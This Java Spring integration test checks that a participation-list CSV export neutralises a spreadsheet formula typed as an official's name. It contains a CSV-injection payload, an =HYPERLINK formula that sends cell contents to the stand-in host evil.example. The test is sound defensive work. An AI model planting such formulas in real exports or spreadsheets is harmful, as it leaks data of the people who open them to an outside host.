package by.egov.academy.participation.invitation;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;

import by.egov.academy.support.IntegrationTest;
import by.egov.academy.support.Sessions;
import by.egov.academy.support.TestData;
import com.jayway.jsonpath.JsonPath;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * A name typed on the RSVP form as a spreadsheet formula (the review's {@code =HYPERLINK(…)}) reaches the
 * participation list's CSV as text, not as a formula.
 */
@IntegrationTest
class CsvInjectionTests {

    @Autowired
    MockMvc mvc;
    @Autowired
    JdbcClient jdbc;

    @Test
    void aTypedFormulaIsNeutralisedInTheParticipationCsv() throws Exception {
        var admin = httpBasic("admin", Sessions.ADMIN_PASSWORD);
        long seminar = ((Number) JsonPath.read(mvc.perform(post("/api/v1/seminars").with(admin)
                .contentType(MediaType.APPLICATION_JSON).content("""
                        {"hostTerritoryId":%d,"titleRu":"%s","start":"2036-03-03T10:00","end":"2036-03-03T12:00"}
                        """.formatted(TestData.territory(jdbc, "BY-HR"), TestData.unique("CSV "))))
                .andExpect(status().isCreated()).andReturn().getResponse().getContentAsString(), "$.id")).longValue();
        String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"Подробнее\")";
        long official = TestData.official(jdbc, TestData.organisation(jdbc, "Лидский районный исполнительный комитет"),
                formula, TestData.unique("formula").replace("-", "") + "@example.by");
        mvc.perform(post("/api/v1/seminars/{id}/invitations", seminar).with(admin).contentType(MediaType.APPLICATION_JSON)
                .content("{\"officialId\":%d}".formatted(official))).andExpect(status().isCreated());
        String csv = new String(mvc.perform(get("/manage/seminars/{id}/participation/export.csv", seminar)
                        .session(Sessions.admin(mvc))).andExpect(status().isOk()).andReturn().getResponse()
                .getContentAsByteArray(), StandardCharsets.UTF_8);
        try (CSVParser parser = CSVParser.parse(new StringReader(csv.substring(1)),
                CSVFormat.DEFAULT.builder().setDelimiter(';').setHeader().get())) {
            assertThat(parser.getRecords()).anyMatch(r -> r.get("ФИО").equals("'" + formula))
                    .noneMatch(r -> r.get("ФИО").startsWith("="));
        }
    }
}
